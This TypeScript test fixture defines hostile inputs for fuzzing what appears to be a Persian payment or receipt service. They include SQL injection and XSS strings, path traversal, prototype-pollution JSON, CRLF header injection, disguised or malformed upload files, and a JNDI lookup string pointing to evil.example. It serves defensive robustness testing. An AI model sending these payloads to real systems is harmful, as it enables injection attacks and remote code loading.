import { hostileAmounts, hostileBsc, hostileIban, hostileTron } from './hostile'

/** Entries on one line: a list of hundreds stays readable. */
const list = (...entries: readonly unknown[]): readonly unknown[] => entries

const texts = (...entries: readonly string[]): readonly string[] => entries

/** Characters that reorder text, hide in it or end it. */
export const invisible: readonly string[] = [
  ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'],
  ['\u200b', '\u200e', '\u200f', '\u061c', '\u2060', '\u2064', '\u206f', '\ufeff', '\u00ad'],
  ['\u0000', '\u0007', '\u001b', '\u007f', '\u0085', '\u009f', '\u2028', '\u2029'],
  ['\u{e0001}', '\u{e0041}', '\u{e007f}', '\ud800', '\udfff'],
].flat()

const deep = (depth: number): unknown => (depth === 0 ? 1 : [deep(depth - 1)])

/** Texts made to break a parser, a database or a screen. */
const hostileTexts: readonly string[] = [
  ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'length'],
  ["' or 1=1; --", `"; drop table users; --`, "\\'", '%', '_', '%_%', '\\', '$1', '${7*7}', '{{7*7}}', '$$'],
  ['../../etc/passwd', 'C:\\x', 'a%00.png', 'CON', '.htaccess', 'file:///etc/passwd', '//evil.example', '\\\\evil'],
  ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(1)', '=1+1', '@SUM(A1)', '\t=1'],
  ['1e309', '-1', '0', '-0', '1.5', '9007199254740993', '2147483648', '9223372036854775808', '۹۹۹۹۹۹۹۹۹۹۹۹'],
  ['0001-01-01', '9999-12-31', '2026-02-30', '1403-13-45', '2026-11-01T25:00:00Z', '+275760-09-13', '٢٠٢٦-١١-٠١'],
  ['null', 'undefined', 'true', '[]', '{}', '[object Object]', '{"$ne":null}', 'a\r\nset-cookie: b=1', 'a\nb'],
  ['', ' ', '\t', '\u3000', 'ﷺ', '\u0600', 'é'.repeat(9), '👨‍👩‍👧‍👦'.repeat(12), 'ك‌ي'.repeat(40), 'ß', 'İ', 'ﬀ'],
  ['(((((((((((((((((((a)', 'a'.repeat(40) + '!', '٫'.repeat(60), ','.repeat(300), '-'.repeat(80), '1,'.repeat(250)],
  ['x'.repeat(3_000), '😀'.repeat(3_000), '0'.repeat(400), ' '.repeat(5_000), '\u0301'.repeat(600)],
  ['00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff', 'IR00', '٠٩١٢٠٠٠٠٠٠٣'],
].flat()

/** Values every field must withstand: texts, numbers, nothing, lists, objects. */
export const hostileValues: readonly unknown[] = [
  ...hostileTexts,
  ...invisible.flatMap((one) => [one, `ab${one}cd`, `${one}12`, `invoice_${one}gpj.exe`]),
  ...hostileAmounts,
  ...hostileTron,
  ...hostileBsc,
  ...hostileIban,
  ...list(null, true, false, 0, -1, 1.5, 2 ** 31, 2 ** 53, -(2 ** 53), 1e308, -1e308, 5e-324),
  ...list([], [[]], [null], [1, 'a', {}], {}, { $gt: '' }, { length: 1e9 }, { toString: 1 }),
  ...list(
    deep(30),
    deep(33),
    Array.from({ length: 300 }, (_, n) => n),
    Array.from({ length: 201 }, () => '1'),
  ),
]

/** Headers with values no client of ours sends. */
export const hostileHeaders: readonly (readonly [string, string])[] = [
  ...[
    '',
    'Bearer',
    'Bearer ',
    'Basic YTpi',
    `Bearer ${'a'.repeat(43)}`,
    `Bearer ${'a'.repeat(9_000)}`,
    'bearer a b',
  ].map((value) => ['authorization', value] as const),
  ...['', ' ', 'x'.repeat(256), 'a b', 'é', '%00', "' or 1=1", '__proto__'].map(
    (value) => ['idempotency-key', value] as const,
  ),
  ...['text/plain', 'text/html', 'application/xml', 'application/json; charset=utf-16', 'multipart/form-data', ''].map(
    (value) => ['content-type', value] as const,
  ),
  ...['multipart/form-data; boundary=', `multipart/form-data; boundary=${'b'.repeat(300)}`, 'application/json,'].map(
    (value) => ['content-type', value] as const,
  ),
  ...['gzip', 'br', 'deflate, gzip', 'rubbish'].map((value) => ['content-encoding', value] as const),
  ...['null', 'https://evil.example', 'http://localhost:4180.evil.example', 'file://', 'x'].map(
    (value) => ['origin', value] as const,
  ),
  ...['cross-site', 'same-site', 'rubbish'].map((value) => ['sec-fetch-site', value] as const),
  ['sec-purpose', 'prefetch'],
  ['accept', 'text/html'],
  ['accept-language', 'x'.repeat(5_000)],
  ['range', 'bytes=0-0,5-2,-1'],
  ['if-none-match', '*'],
  ['if-modified-since', 'rubbish'],
  ['cookie', `XSRF-TOKEN=${'x'.repeat(4_000)}; a; =; __proto__=1`],
  ['x-xsrf-token', 'rubbish'],
  ['x-forwarded-for', '1.2.3.4, , 999.1.1.1, ::1, <script>'],
  ['x-http-method-override', 'DELETE'],
  ['user-agent', '${jndi:ldap://evil.example/a} \u00ff'],
  ['content-length', '99999999999'],
  ['expect', '100-continue'],
]

/** Bodies that are not JSON, or JSON no reader should trust. */
export const hostileBodies: readonly BodyInit[] = [
  ...texts(
    '',
    ' ',
    '{',
    '{"a":',
    '[]',
    '[1]',
    'null',
    'true',
    '1',
    '"a"',
    "{'a':1}",
    '{"a":1,}',
    'NaN',
    '{"a":NaN}',
    '{}{}',
  ),
  ...texts('{"a":1,"a":-5}', '{"__proto__":{"staff":true}}', '{"constructor":{"prototype":{"staff":true}}}', '{"":""}'),
  ...texts(
    '['.repeat(40),
    '['.repeat(100_000),
    `${'{"a":'.repeat(40)}1${'}'.repeat(40)}`,
    `{"${'k'.repeat(70_000)}":1}`,
  ),
  ...texts(
    '{"a":"\\ud800"}',
    '{"a":"\\u0000"}',
    '\ufeff{}',
    '{"a":1e999}',
    '{"\\u005f_proto__":{}}',
    'a=1&b=2',
    '<a/>',
  ),
  ...texts(`{${Array.from({ length: 2_000 }, (_, n) => `"k${n}":${n}`).join()}}`),
  new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]),
  new Uint8Array([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
  new Uint8Array([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00]),
]

const bytes = (...given: readonly (number | string)[]): Uint8Array<ArrayBuffer> =>
  new Uint8Array(
    Buffer.concat(given.map((part) => (typeof part === 'string' ? Buffer.from(part) : Buffer.from([part])))),
  )

const png = [0x89, 'PNG', 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 'IHDR']

/** Files: some valid, some that merely claim to be pictures. */
export const hostileFiles: readonly File[] = [
  new File([bytes(...png, 0, 0, 0, 1, 0, 0, 0, 1)], 'رسید.png', { type: 'image/png' }),
  new File([bytes(...png)], '../../etc/pass\u202ewd.png', { type: 'image/png' }),
  new File([bytes(...png, 0, 0, 0xc3, 0x50, 0, 0, 0xc3, 0x50)], 'bomb.png', { type: 'image/png' }),
  new File([bytes('%PDF-1.7\n/OpenAction /JavaScript')], 'a.pdf', { type: 'application/pdf' }),
  new File([bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')], 'a.svg', { type: 'image/svg+xml' }),
  new File([bytes('<!doctype html><script>alert(1)</script>')], 'a.html', { type: 'image/png' }),
  new File([bytes('GIF89a<script>')], 'a.gif', { type: 'image/gif' }),
  new File([bytes(0xff, 0xd8, 0xff, 0xe0)], 'x'.repeat(400) + '.jpg', { type: 'image/jpeg' }),
  new File([], 'empty.png', { type: 'image/png' }),
  new File([bytes('PK', 3, 4)], 'a.zip', { type: 'application/zip' }),
  new File([bytes(0)], 'CON', { type: '' }),
  new File([bytes(...png)], 'a"; filename="b.html\r\nx: y', { type: 'image/png' }),
]

/** The letters and digits people type here, with the half-space. */
export const persianLetters: readonly string[] = [...'ابپتثجچحخدذرزژسشصضطظعغفقکگلمنوهی\u200c ۰۱۲۳۴۵۶۷۸۹']

/** A Persian word. */
export const persianWord = 'متنی'

/** A sentence with something between its word and its amount, which must stay the amount. */
export const beforeAmount = (something: string): string => `مبلغ ${something}123 تومان`
